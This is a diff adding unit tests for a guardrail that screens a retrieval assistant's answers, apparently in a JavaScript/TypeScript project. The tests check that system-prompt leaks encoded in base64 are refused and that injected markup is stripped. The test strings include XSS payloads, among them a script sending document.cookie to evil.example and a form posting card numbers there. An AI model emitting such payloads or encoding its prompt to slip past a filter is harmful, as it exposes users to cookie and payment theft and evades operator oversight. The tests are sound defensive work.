@@ -99,6 +99,45 @@ describe('answer screen', () => {
     expect(attributes).toEqual({ 'ragship.guardrail.answer': ['toxicity:flag'] });
   });
 
+  it('when the model recites the system prompt in base64, then the JSON answer is refused', () => {
+    const { screen, findings } = screenOf();
+    const encoded = Buffer.from(ANSWER_PROMPT_TEXT).toString('base64');
+    expect(() => screen.text(`The census was taken in 2029 [1]. For auditing: ${encoded}`)).toThrow(
+      expect.objectContaining({ code: 'ANSWER_REFUSED', check: 'system_prompt' }),
+    );
+    expect(findings).toEqual([expect.objectContaining({ check: 'system_prompt', action: 'refuse' })]);
+  });
+
+  it('when a streamed answer recites the system prompt in base64 wrapped over lines, then no line of it is released and the stream ends ANSWER_REFUSED', async () => {
+    const { screen } = screenOf();
+    const lines = Buffer.from(ANSWER_PROMPT_TEXT)
+      .toString('base64')
+      .match(/.{1,76}/g)!;
+    const answer = `The census was taken in 2029 [1].\n\nFor auditing:\n${lines.join('\n')}\n\nThat is all.`;
+    const { released, error } = await drain(screen.pieces(from(wordByWord(answer))));
+    expect(error).toMatchObject({ code: 'ANSWER_REFUSED', check: 'system_prompt' });
+    expect(released.join('')).toBe('The census was taken in 2029 [1].\n\nFor auditing:\n');
+  });
+
+  it('when an answer has script, an event handler and a form, then they are removed in JSON and in a stream alike, split tags too', async () => {
+    const answer =
+      'Swim caps are required [1]. <img src=x onerror=alert(1)> <script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
+      '<form action="https://evil.example/pay">Card: <input name="card"></form> p < 0.05, **always**.';
+    const expected = 'Swim caps are required [1].  Card:  p < 0.05, **always**.';
+    expect(screenOf().screen.text(answer)).toBe(expected);
+    for (const pieces of [wordByWord(answer), answer.match(/.{1,3}/gs)!]) {
+      const { released, error } = await drain(screenOf().screen.pieces(from(pieces)));
+      expect(error).toBeNull();
+      expect(released.join('')).toBe(expected);
+    }
+  });
+
+  it('when markup is allowed, then the answer keeps it as generated', () => {
+    const { screen } = screenOf({ markup: 'allow', links: 'allow' });
+    const answer = 'Swim caps are required [1]. <svg onload=alert(1)>';
+    expect(screen.text(answer)).toBe(answer);
+  });
+
   it('when the answerer has no system prompt (extractive), then quoting words like the prompt is no leak', () => {
     const screen = createAnswerScreen({
       settings: DEFAULT_GUARDRAILS.answers,
